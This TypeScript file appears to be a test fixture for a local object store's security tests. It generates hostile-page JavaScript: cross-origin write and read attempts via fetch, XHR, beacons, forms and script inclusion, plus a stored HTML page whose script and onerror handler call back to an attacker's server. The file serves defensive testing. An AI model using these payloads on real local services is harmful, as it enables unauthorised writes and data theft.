/**
 * What a hostile page tries, as the JavaScript that a browser is given: the attempts, without their outcome.
 *
 * An attempt is only begun here. Whether it came to anything is asked of the store that it aims at, and of the browser.
 */
import { addressOf } from "#test/kit/objects.ts";

/** Code by the name of the attempt. */
type Attempts = Readonly<Record<string, string>>;

/** For `begin`: what an attempt at writing may use. */
export interface WriteAim {
  /** Of the store, as the page names it: `http://127.0.0.1:7700`. */
  readonly goal: string;
  /** Of the attacker's own server. */
  readonly own: string;
  readonly body: string;
}

/**
 * `url` is `/put` with the attempt's name in its query, `urlByAddress` names the object by its address, `redirected` is
 * the attacker's own and leads to `url`, and `posting` is code for where the page's own tools are out of reach.
 */
export const writes: Attempts = {
  "fetch PUT": "fetch(url, { method: 'PUT', body })",
  "fetch PUT, by address": "fetch(urlByAddress, { method: 'PUT', body })",
  "fetch PUT, no-cors": "fetch(url, { method: 'PUT', body, mode: 'no-cors' })",
  "fetch POST": "fetch(url, { method: 'POST', body })",
  "fetch POST, no-cors": "fetch(url, { method: 'POST', body, mode: 'no-cors' })",
  "fetch POST, keepalive": "fetch(url, { method: 'POST', body, mode: 'no-cors', keepalive: true })",
  "fetch POST, no referrer": "fetch(url, { method: 'POST', body, mode: 'no-cors', referrerPolicy: 'no-referrer' })",
  "fetch POST, redirected": "fetch(redirected, { method: 'POST', body, mode: 'no-cors' })",
  "fetch POST, from a sandboxed frame":
    "frame({ sandbox: 'allow-scripts', src: blob('text/html', '<script>' + posting + '</scr' + 'ipt>') })",
  "fetch POST, from a worker": "new Worker(blob('text/javascript', posting))",
  "XHR PUT": "xhr('PUT')",
  "XHR POST": "xhr('POST')",
  sendBeacon: "navigator.sendBeacon(url, body)",
  "sendBeacon, binary": "navigator.sendBeacon(url, new Blob([body], { type: 'application/octet-stream' }))",
  "form, multipart": "form(url, 'multipart/form-data')",
  "form, text/plain": "form(url, 'text/plain')",
  "form, urlencoded": "form(url, 'application/x-www-form-urlencoded')",
  "form, redirected": "form(redirected, 'text/plain')",
  "report of a content policy": "frame({ src: own + '/reporting?to=' + encodeURIComponent(url) })",
};

/** Begun, but given up by the browser itself, whatever the store says. */
export const refusedByBrowsers: ReadonlySet<string> = new Set(["fetch PUT, no-cors"]);

/** Each is a promise of what the page got to know of the object at `url`. */
export const reads: Attempts = {
  "fetch GET": "fetch(url).then((response) => response.text())",
  "XHR GET":
    "new Promise((over) => { const x = new XMLHttpRequest(); x.onloadend = () => over(x.responseText); x.open('GET', url); x.send(); })",
  "script element":
    "new Promise((over) => { const s = document.createElement('script'); s.src = url; " +
    "s.onload = s.onerror = () => over(globalThis.stolen); document.body.append(s); })",
};

/** Ways to have a browser open what is stored at `url`, beside a tab of its own. */
export const openings: Attempts = {
  "in an iframe": "frame({ src: url })",
  "in an object": "put('object', { data: url, type: 'text/html' })",
  "in an embed": "put('embed', { src: url, type: 'text/html' })",
  "in an object without a type": "put('object', { data: url })",
  "through window.open": "void window.open(url)",
};

/** Says that it runs in every way it has: to the store, to the attacker, in its title and in a cookie. */
export function storedPage(attacker: string): Buffer {
  const script = `
    const way = new URLSearchParams(location.search).get("way");
    document.title = "scripted " + way;
    document.cookie = "scripted=yes; max-age=600";
    fetch("/put", { method: "PUT", body: ${JSON.stringify(writtenBy(""))} + way });
    fetch("${attacker}/told?way=" + encodeURIComponent(way), { mode: "no-cors" });`;
  const handler = `fetch("${attacker}/told?way=" + encodeURIComponent(new URLSearchParams(location.search).get("way")))`;
  return Buffer.from(`<!doctype html>
<title>harmless</title>
<p>A page that somebody stored.</p>
<script>${script}</script>
<img src="data:," onerror='${handler}'>
`);
}

/** The object that the stored page writes when it runs. */
export function writtenBy(way: string): string {
  return `written by a stored page that was opened ${way}`;
}

/** An object that is a script as well, so that a script element can read it. */
export const secret = 'globalThis.stolen = "for the owner of the node only"';

/** An expression that begins every attempt at writing. */
export function beginWrites(aimOf: (name: string) => WriteAim): string {
  return Object.entries(writes)
    .map(([name, code]) => {
      const { goal, own, body } = aimOf(name);
      const query = `by=${encodeURIComponent(name)}`;
      const url = `${goal}/put?${query}`;
      return begin(code, {
        body,
        own,
        url,
        posting: `fetch(${JSON.stringify(url)}, { method: "POST", mode: "no-cors", body: ${JSON.stringify(body)} })`,
        urlByAddress: `${goal}/o/${addressOf(Buffer.from(body))}?${query}`,
        redirected: `${own}/redirect?to=${encodeURIComponent(url)}`,
      });
    })
    .join("\n");
}

/** An expression that begins every opening of the object at `url`. */
export function beginOpenings(url: string): string {
  return Object.entries(openings)
    .map(([way, code]) => begin(code, { url: `${url}?way=${encodeURIComponent(way)}` }))
    .join("\n");
}

/** A promise of the names and yields of every attempt at reading. */
export function tryReads(url: string): string {
  const tries = Object.entries(reads).map(
    ([name, code]) => `Promise.resolve(${code}).catch(String).then((got) => [${JSON.stringify(name)}, String(got)])`,
  );
  return `(() => { const url = ${JSON.stringify(url)}; return Promise.all([${tries.join(",\n")}]); })()`;
}

/** In a scope of its own, with the tools that attempts use. */
function begin(code: string, values: Readonly<Record<string, string>>): string {
  return `{
    const { ${Object.keys(values).join(", ")} } = ${JSON.stringify(values)};
    const put = (tag, fields) => { const element = Object.assign(document.createElement(tag), fields);
      document.body.append(element); return element; };
    const frame = (fields) => put("iframe", fields);
    const blob = (type, text) => URL.createObjectURL(new Blob([text], { type }));
    const xhr = (method) => { const x = new XMLHttpRequest(); x.open(method, url); x.send(body); };
    const form = (action, enctype) => { const { name } = frame({ name: action + enctype });
      const made = put("form", { action, enctype, method: "POST", target: name });
      const field = document.createElement("input"); Object.assign(field, { name: "field", value: body });
      made.append(field); made.submit(); };
    Promise.resolve((async () => ${code})()).catch(() => undefined);
  }`;
}
